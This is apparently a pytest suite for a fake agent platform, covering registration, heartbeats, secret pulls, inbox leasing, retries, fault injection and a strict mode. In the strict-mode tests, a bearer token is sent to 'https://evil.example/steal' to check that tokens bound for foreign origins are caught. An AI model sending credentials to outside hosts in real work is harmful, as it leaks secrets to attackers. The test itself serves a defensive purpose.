"""The fake platform as an agent's test uses it: no sockets, faults at will, a clock that can be moved."""

import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import requests

from molecule_agent import InboxDelivery, RemoteAgentClient, RetryPolicy, errors
from molecule_agent.testing import FakePlatform, FakeResponse, make_tarball

URL = "https://molecule.test"


@pytest.fixture
def platform() -> FakePlatform:
    return FakePlatform()


@pytest.fixture
def join(tmp_path: Path) -> Iterator[Callable[..., RemoteAgentClient]]:
    made: list[RemoteAgentClient] = []

    def joined(platform: FakePlatform, name: str = "agent", **options: Any) -> RemoteAgentClient:
        workspace_id = platform.create_workspace(name)
        settings: dict[str, Any] = {
            "session": platform.session(),
            "token_dir": tmp_path / workspace_id,
            **options,
        }
        made.append(RemoteAgentClient(workspace_id, URL, **settings))
        made[-1].register()
        return made[-1]

    yield joined
    for client in made:
        client.close()


@pytest.fixture
def client(platform: FakePlatform, join: Callable[..., RemoteAgentClient]) -> RemoteAgentClient:
    return join(platform)


def test_an_agent_joins_without_a_socket(platform: FakePlatform, client: RemoteAgentClient) -> None:
    platform.set_secret(client.workspace_id, "KEY", "value")
    client.heartbeat(current_task="reading")
    assert client.pull_secrets() == {"KEY": "value"}
    assert client.poll_state().status == "online"
    assert [seen.path for seen in platform.requests] == [
        "/registry/register",
        "/registry/heartbeat",
        f"/workspaces/{client.workspace_id}/secrets/values",
        f"/workspaces/{client.workspace_id}/state",
    ]


def test_what_was_asked_can_be_looked_at(platform: FakePlatform, client: RemoteAgentClient) -> None:
    client.heartbeat(current_task="reading")
    method, path, headers, json = platform.requests[-1]
    assert (method, path) == ("POST", "/registry/heartbeat")
    assert headers["authorization"] == f"Bearer {client.load_token()}"
    assert isinstance(json, dict)
    assert json["current_task"] == "reading"


def test_a_message_is_handled_and_its_outcome_seen(platform: FakePlatform, client: RemoteAgentClient) -> None:
    peer = platform.create_workspace("peer", role="sre")
    sent = platform.send_peer_message(peer, client.workspace_id, "hello")
    assert platform.outcome(sent).status == "accepted"
    events: list[tuple[str, str, str]] = []

    def handle(message: Any, client: RemoteAgentClient) -> str:
        events.append((message.text, message.peer_name, message.peer_role))
        return message.text.upper()

    assert InboxDelivery(client, wait=0).run_once(handle) == 1
    assert events == [("hello", "peer", "sre")]
    outcome = platform.outcome(sent)
    assert (outcome.status, outcome.text, outcome.error_code) == ("answered", "HELLO", "")


def test_a_handler_that_always_raises_ends_as_a_dead_letter(
    platform: FakePlatform, client: RemoteAgentClient
) -> None:
    sent = platform.send_user_message(client.workspace_id, "hello")
    delivery = InboxDelivery(client, wait=0)

    def handle(message: Any, client: RemoteAgentClient) -> None:
        raise RuntimeError("secret text")

    attempts = 0
    while not platform.outcome(sent).dead_letter:
        attempts += delivery.run_once(handle)
        assert attempts < 20
        platform.advance(30)
    assert attempts == 5
    assert "secret text" not in str(platform.outcome(sent))


def test_a_failed_message_is_not_offered_before_its_back_off(
    platform: FakePlatform, client: RemoteAgentClient
) -> None:
    platform.send_user_message(client.workspace_id, "hello")
    delivery = InboxDelivery(client, wait=0)

    def handle(message: Any, client: RemoteAgentClient) -> str:
        if message.lease.attempt == 1:
            raise RuntimeError
        return "done"

    assert [delivery.run_once(handle), delivery.run_once(handle)] == [1, 0]
    platform.advance(2)
    assert delivery.run_once(handle) == 1


def test_what_is_given_back_waits_longer_each_time_and_ends_as_a_dead_letter(
    platform: FakePlatform, client: RemoteAgentClient
) -> None:
    sent = platform.send_user_message(client.workspace_id, "hello")
    path = f"{URL}/workspaces/{client.workspace_id}/inbox"
    headers = {"Authorization": f"Bearer {client.load_token()}"}
    session, answers = platform.session(), list[dict[str, Any]]()
    waited = 0
    while not platform.outcome(sent).dead_letter:
        for item in session.post(f"{path}/lease", json={}, headers=headers).json()["messages"]:
            body = {"lease_token": item["lease"]["token"]}
            answers.append(session.post(f"{path}/{sent}/release", json=body, headers=headers).json())
        platform.advance(2)
        waited += 2
        assert waited < 3600
    assert [answer["releases"] for answer in answers] == list(range(1, 21))
    assert [answer["status"] for answer in answers] == ["accepted"] * 19 + ["failed"]
    assert waited >= 2 + 4 + 8 + 16 + 32 + 64 + 128 + 256 + 8 * 300
    assert platform.outcome(sent).error_code == "released-too-often"


def test_a_pause_by_the_operator_is_no_release_by_the_agent(
    platform: FakePlatform, client: RemoteAgentClient
) -> None:
    sent = platform.send_user_message(client.workspace_id, "hello")
    path = f"{URL}/workspaces/{client.workspace_id}/inbox"
    headers = {"Authorization": f"Bearer {client.load_token()}"}
    for _ in range(25):
        leased = platform.session().post(f"{path}/lease", json={}, headers=headers).json()["messages"]
        assert [item["message_id"] for item in leased] == [sent]
        platform.pause(client.workspace_id)
        platform.resume(client.workspace_id)
    assert platform.outcome(sent).status == "accepted"


def test_a_lease_that_runs_out_is_offered_again(platform: FakePlatform, client: RemoteAgentClient) -> None:
    sent = platform.send_user_message(client.workspace_id, "hello")
    path = f"{URL}/workspaces/{client.workspace_id}/inbox"
    headers = {"Authorization": f"Bearer {client.load_token()}"}
    session = platform.session()
    [first] = session.post(f"{path}/lease", json={"lease": 10}, headers=headers).json()["messages"]
    platform.advance(11)
    [again] = session.post(f"{path}/lease", json={}, headers=headers).json()["messages"]
    assert (again["lease"]["attempt"], again["lease"]["epoch"]) == (2, 2)
    stale = {"lease_token": first["lease"]["token"], "text": "late"}
    assert session.post(f"{path}/{sent}/answer", json=stale, headers=headers).status_code == 409
    for _ in range(3):
        platform.advance(61)
        session.post(f"{path}/lease", json={}, headers=headers)
    platform.advance(61)
    assert platform.outcome(sent).error_code == "no-reply"


def test_a_message_that_nobody_takes_expires(platform: FakePlatform, client: RemoteAgentClient) -> None:
    sent = platform.send_user_message(client.workspace_id, "hello")
    platform.advance(86_400)
    assert (platform.outcome(sent).status, platform.outcome(sent).error_code) == (
        "expired",
        "deadline-exceeded",
    )


def test_a_held_lease_call_ends_when_a_message_comes(
    platform: FakePlatform, client: RemoteAgentClient
) -> None:
    delivery = InboxDelivery(client, wait=60)
    handled: list[int] = []
    thread = threading.Thread(target=lambda: handled.append(delivery.run_once(lambda message, client: "ok")))
    thread.start()
    _wait_until(lambda: platform.requests[-1].path.endswith("/lease"))
    sent = platform.send_user_message(client.workspace_id, "hello")
    thread.join(30)
    assert handled == [1]
    assert platform.outcome(sent).text == "ok"


def test_advancing_ends_a_held_call_and_a_sleep(
    platform: FakePlatform, join: Callable[..., RemoteAgentClient]
) -> None:
    client = join(platform, clock=platform.clock)
    thread = threading.Thread(target=client.run_heartbeat_loop, kwargs={"max_iterations": 3})
    thread.start()
    deadline = time.monotonic() + 30
    while thread.is_alive():
        assert time.monotonic() < deadline
        platform.advance(30)
        thread.join(0.02)
    assert [seen.path for seen in platform.requests].count("/registry/heartbeat") == 3


def test_a_clock_of_one_s_own_decides_how_a_wait_passes(join: Callable[..., RemoteAgentClient]) -> None:
    class Jumping:
        """Passes over every sleep."""

        now = 1_767_225_600.0

        def time(self) -> float:
            return self.now

        monotonic = time

        def sleep(self, seconds: float, /) -> None:
            self.now += seconds

    clock = Jumping()
    platform = FakePlatform(clock=clock)
    client = join(platform, clock=platform.clock)
    assert InboxDelivery(client, wait=60).run_once(lambda message, client: None) == 0
    assert clock.now == 1_767_225_660.0
    platform.advance(30)
    assert (clock.now, platform.clock.time()) == (1_767_225_660.0, 1_767_225_690.0)


@pytest.mark.parametrize(("change", "why"), [("pause", "paused"), ("delete", "removed")])
def test_a_loop_ends_when_its_workspace_does(
    change: str, why: str, platform: FakePlatform, client: RemoteAgentClient
) -> None:
    getattr(platform, change)(client.workspace_id)
    assert client.run_heartbeat_loop(max_iterations=2) == why


def test_a_resumed_agent_comes_back(platform: FakePlatform, client: RemoteAgentClient) -> None:
    platform.pause(client.workspace_id)
    platform.resume(client.workspace_id)
    assert client.poll_state().status == "awaiting_agent"
    client.heartbeat()
    assert client.poll_state().status == "online"


def test_an_agent_that_is_not_heard_is_offline(platform: FakePlatform, client: RemoteAgentClient) -> None:
    platform.advance(91)
    assert client.poll_state().status == "offline"


def test_a_workspace_cannot_be_claimed_for_ever(
    platform: FakePlatform, join: Callable[..., RemoteAgentClient]
) -> None:
    late = RemoteAgentClient(
        platform.create_workspace(), URL, session=platform.session(), token_dir="/nowhere/at/all"
    )
    platform.advance(86_401)
    with pytest.raises(errors.AuthenticationError, match="molecule workspace enrol"):
        late.register()


def test_a_lost_token_is_recovered_and_a_revoked_one_is_not(
    platform: FakePlatform, client: RemoteAgentClient
) -> None:
    first = client.load_token()
    client.token_file.unlink()
    client._token = None
    assert client.register() not in ("", first)
    platform.revoke_tokens(client.workspace_id)
    with pytest.raises(errors.AuthenticationError):
        client.heartbeat()
    with pytest.raises(errors.AuthenticationError):
        client.reenrol()
    assert client.reenrol(platform.issue_enrolment_token(client.workspace_id))
    client.heartbeat()


# Faults


def test_the_next_requests_can_be_made_to_fail(
    platform: FakePlatform, join: Callable[..., RemoteAgentClient]
) -> None:
    client = join(platform, retry=RetryPolicy(base=0.0))
    platform.fail_next("GET", "*/state", 429, times=2, retry_after=0)
    assert client.poll_state().status == "online"
    assert [seen.path[-6:] for seen in platform.requests].count("/state") == 3
    platform.fail_next("post", "/registry/*")
    with pytest.raises(errors.UnavailableError, match="platform-unavailable"):
        client.heartbeat()
    client.heartbeat()
    platform.fail_next("GET", "*", status=500, body={"error": "own words", "code": "internal"})
    with pytest.raises(errors.ServerError, match="own words"):
        client.pull_secrets()


def test_a_fault_tells_when_to_come_again(platform: FakePlatform) -> None:
    platform.fail_next("GET", "/x", 429, retry_after=7)
    answer = platform.session().get(f"{URL}/x")
    assert (answer.headers["retry-after"], answer.json()["retry_after"]) == ("7", 7)
    platform.fail_next("GET", "/x", 503, retry_after="Thu, 01 Jan 2026 00:00:00 GMT", body=b"<html>")
    answer = platform.session().get(f"{URL}/x")
    assert (answer.headers["Retry-After"], answer.text) == ("Thu, 01 Jan 2026 00:00:00 GMT", "<html>")


def test_connections_can_be_dropped(platform: FakePlatform, client: RemoteAgentClient) -> None:
    platform.drop_next("POST", "/registry/heartbeat")
    with pytest.raises(errors.PlatformUnreachableError):
        client.heartbeat()
    client.heartbeat()


def test_a_served_connection_can_be_dropped_and_a_wait_ends_with_the_server(platform: FakePlatform) -> None:
    with platform.serve() as url:
        platform.drop_next("GET", "/x", times=2)
        with pytest.raises(requests.ConnectionError):
            requests.get(f"{url}/x", timeout=30)
        platform.fail_next("GET", "/x", 502)
        with pytest.raises(requests.ConnectionError):
            requests.get(f"{url}/x", timeout=30)
        assert requests.get(f"{url}/x", timeout=30).status_code == 502


def test_a_platform_can_be_served_again_and_no_old_wait_takes_a_message(
    platform: FakePlatform, tmp_path: Path
) -> None:
    workspace_id = platform.create_workspace()
    with platform.serve() as url:
        agent = RemoteAgentClient(workspace_id, url, token_dir=tmp_path)
        agent.register()
        waiting = threading.Thread(target=_ignoring_errors(InboxDelivery(agent, wait=60)))
        waiting.start()
        _wait_until(lambda: platform.requests[-1].path.endswith("/lease"))
    waiting.join(30)
    agent.close()
    sent = platform.send_user_message(workspace_id, "hello")
    assert platform.outcome(sent).status == "accepted"
    with platform.serve() as url, RemoteAgentClient(workspace_id, url, token_dir=tmp_path) as agent:
        InboxDelivery(agent, wait=0).run_once(lambda message, client: "ok")
    assert platform.outcome(sent).text == "ok"


# Strictness


def test_a_strict_platform_complains_of_unknown_routes_missing_tokens_and_foreign_origins() -> None:
    platform = FakePlatform(strict=True)
    workspace_id = platform.create_workspace()
    session = platform.session()
    registered = session.post(
        f"{URL}/registry/register", json={"id": workspace_id, "agent_card": {"name": "x"}}
    )
    bearer = {"Authorization": f"Bearer {registered.json()['auth_token']}"}
    with pytest.raises(AssertionError, match="no route GET /no/such"):
        session.get(f"{URL}/no/such", headers=bearer)
    with pytest.raises(AssertionError, match="without a token"):
        session.get(f"{URL}/workspaces/{workspace_id}/state")
    with pytest.raises(AssertionError, match=r"sent to https://evil\.example"):
        session.get("https://evil.example/steal", headers=bearer)
    with pytest.raises(requests.ConnectionError):
        session.get("https://evil.example/steal")
    assert session.get(f"{URL}/workspaces/{workspace_id}/state", headers=bearer).status_code == 200


def test_a_strict_platform_complains_when_it_was_served_too() -> None:
    platform = FakePlatform(strict=True)
    with pytest.raises(AssertionError, match="no route GET /no/such"), platform.serve() as url:
        assert requests.get(f"{url}/no/such", timeout=30).status_code == 404


def test_without_strictness_the_same_is_answered(platform: FakePlatform, client: RemoteAgentClient) -> None:
    session = platform.session()
    assert session.get(f"{URL}/no/such").json()["code"] == "not-found"
    assert session.get(f"{URL}/workspaces/{client.workspace_id}/inbox").json()["code"] == "unauthenticated"
    with pytest.raises(requests.ConnectionError):
        session.get("https://evil.example/steal", headers={"Authorization": "Bearer x"})


def test_mistakes_of_a_test_are_told_at_once(platform: FakePlatform, client: RemoteAgentClient) -> None:
    stranger = platform.create_workspace("stranger", parent=platform.create_workspace("elsewhere"))
    with pytest.raises(ValueError, match="there is no workspace nobody"):
        platform.send_user_message("nobody", "hello")
    with pytest.raises(ValueError, match="org tree"):
        platform.send_peer_message(client.workspace_id, stranger, "hello")
    with pytest.raises(ValueError, match="not paused"):
        platform.resume(client.workspace_id)
    with pytest.raises(ValueError, match="no message"):
        platform.outcome("nothing")
    with pytest.raises(ValueError, match="forward"):
        platform.advance(-1)


# Doubles by hand


def test_a_response_made_by_hand_is_one_of_requests() -> None:
    answer = FakeResponse(404, {"error": "no"}, headers={"Retry-After": "3"})
    assert (answer.json(), answer.headers["retry-after"], answer.ok) == ({"error": "no"}, "3", False)
    with pytest.raises(requests.HTTPError, match="404"):
        answer.raise_for_status()
    assert FakeResponse().json() is None
    assert FakeResponse(text="plain").text == "plain"
    assert b"".join(FakeResponse(content=b"bytes").iter_content(2)) == b"bytes"


def test_a_tarball_made_by_hand_holds_its_files() -> None:
    import io
    import tarfile

    with tarfile.open(fileobj=io.BytesIO(make_tarball({"b": b"2", "a": b"1"}))) as tar:
        assert [(member.name, member.size) for member in tar] == [("a", 1), ("b", 1)]


def _ignoring_errors(delivery: InboxDelivery) -> Callable[[], None]:
    def run() -> None:
        try:
            delivery.run_once(lambda message, client: None)
        except errors.MoleculeError:
            return

    return run


def _wait_until(condition: Callable[[], bool]) -> None:
    deadline = time.monotonic() + 30
    while not condition():
        assert time.monotonic() < deadline, "it never came true"
        time.sleep(0.01)
